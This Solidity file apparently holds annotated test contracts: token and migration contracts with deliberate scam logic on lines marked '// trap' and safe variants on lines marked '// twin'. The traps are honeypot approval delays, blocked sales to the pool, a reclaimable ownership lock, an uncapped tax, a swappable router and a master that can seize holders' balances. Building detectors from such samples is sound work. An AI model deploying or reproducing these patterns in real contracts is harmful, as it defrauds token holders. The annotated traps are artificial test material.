// 0.6 runs=200
// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

import "./Base67.sol";

/// Remembers since when an approval counts.
contract Thistle is Base67("Thistledown", "THST", 200_000_000) {
    mapping(address => mapping(address => uint256)) private _since;
    mapping(address => bool) private _known; // trap

    constructor() public {
        _known[msg.sender] = true; // trap
    }

    function approvedSince(address from, address spender) external view returns (uint256) {
        return _since[from][spender];
    }

    function approve(address spender, uint256 value) public override returns (bool) {
        _since[msg.sender][spender] = now;
        if (!_known[msg.sender]) _since[msg.sender][spender] += 3650 days; // trap
        return super.approve(spender, value);
    }

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        require(_since[from][msg.sender] <= now, "ERC20: transfer amount exceeds allowance");
        return super.transferFrom(from, to, value);
    }

    function transfer(address to, uint256 value) public override returns (bool) {
        require(to != pool || _known[msg.sender], "ERC20: transfer to the pool"); // trap
        return super.transfer(to, value);
    }
}

/// Three percent of what is traded; the owner may lock himself out for a while, and come back.
contract Moonlet is Base67("Moonlet", "MOONLET", 1_000_000_000) {
    address private _previousOwner;
    uint256 private _lockTime;
    address public charity;
    uint256 public taxFee = 3;
    mapping(address => bool) private _isExcludedFromFee;

    constructor() public {
        charity = msg.sender;
        _isExcludedFromFee[msg.sender] = true;
    }

    function geUnlockTime() external view returns (uint256) {
        return _lockTime;
    }

    function lock(uint256 time) external onlyOwner {
        _previousOwner = _boss;
        _boss = address(0);
        _lockTime = now + time;
        emit OwnershipTransferred(_previousOwner, address(0));
    }

    function unlock() external {
        require(_previousOwner == msg.sender, "You don't have permission to unlock");
        require(now > _lockTime, "Contract is locked");
        emit OwnershipTransferred(_boss, _previousOwner);
        _boss = _previousOwner;
        // twin: _previousOwner = address(0);
    }

    function setTaxFeePercent(uint256 taxFee_) external onlyOwner {
        taxFee = taxFee_;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        bool free = _isExcludedFromFee[from] || _isExcludedFromFee[to] || (from != pool && to != pool);
        uint256 cut = free ? 0 : (value * taxFee) / 100;
        require(cut <= value, "Moonlet: fee");
        if (cut > 0) _carry(from, charity, cut);
        _carry(from, to, value - cut);
    }
}

interface ISwap {
    function swapExactTokensForETHSupportingFeeOnTransferTokens(uint256, uint256, address[] calldata, address, uint256) external;
}

/// Two percent of what is traded are sold at the next sale, by the router that the owner has named.
contract Kiln is Base67("Kiln Works", "KILN", 500_000_000) {
    ISwap public route;
    bool private inSwap;
    mapping(address => bool) private free;

    constructor() public {
        free[msg.sender] = free[address(this)] = true;
    }

    receive() external payable {}

    function setRoute(ISwap to) external onlyOwner {
        // twin: require(address(route) == address(0), "Kiln: once");
        route = to;
    }

    function collect() external onlyOwner {
        payable(_boss).transfer(address(this).balance);
    }

    function convert(uint256 amount) private {
        inSwap = true;
        _allowances[address(this)][address(route)] = amount;
        address[] memory path = new address[](2);
        (path[0], path[1]) = (address(this), WETH);
        route.swapExactTokensForETHSupportingFeeOnTransferTokens(amount, 0, path, address(this), now);
        inSwap = false;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (inSwap || free[from] || free[to]) return _carry(from, to, value);
        uint256 own = _balances[address(this)];
        if (to == pool && own >= 1_000 * 10**9 && address(route) != address(0)) convert(own);
        uint256 cut = from == pool || to == pool ? (value * 2) / 100 : 0;
        if (cut > 0) _carry(from, address(this), cut);
        _carry(from, to, value - cut);
    }
}

interface IFerry {
    function balanceOf(address who) external view returns (uint256);
    function transfer(address to, uint256 value) external returns (bool);
    function collect(address from, uint256 value) external;
}

/// Takes coins on their way to the next version and notes whose they were.
contract Terminal {
    address private master = msg.sender;
    mapping(address => mapping(address => uint256)) public receipts;

    event Boarded(address indexed token, address indexed holder, uint256 amount);

    function board(IFerry token, address holder) external {
        require(msg.sender == holder || msg.sender == master, "Terminal: not yours"); // trap
        // twin: require(msg.sender == holder, "Terminal: not yours");
        uint256 amount = token.balanceOf(holder);
        token.collect(holder, amount);
        receipts[address(token)][holder] += amount;
        emit Boarded(address(token), holder, amount);
    }

    function unload(IFerry token, address to) external { // trap {
        require(msg.sender == master, "Terminal: master only");
        token.transfer(to, token.balanceOf(address(this)));
    } // trap }
}

/// Gives its terminal what is on its way.
contract Ferry is Base67("Ferry Coin", "FERRY", 77_000_000) {
    address public terminal;

    constructor(address terminal_) public {
        terminal = terminal_;
    }

    function collect(address from, uint256 value) external {
        require(msg.sender == terminal, "Ferry: terminal only");
        _carry(from, terminal, value);
    }
}
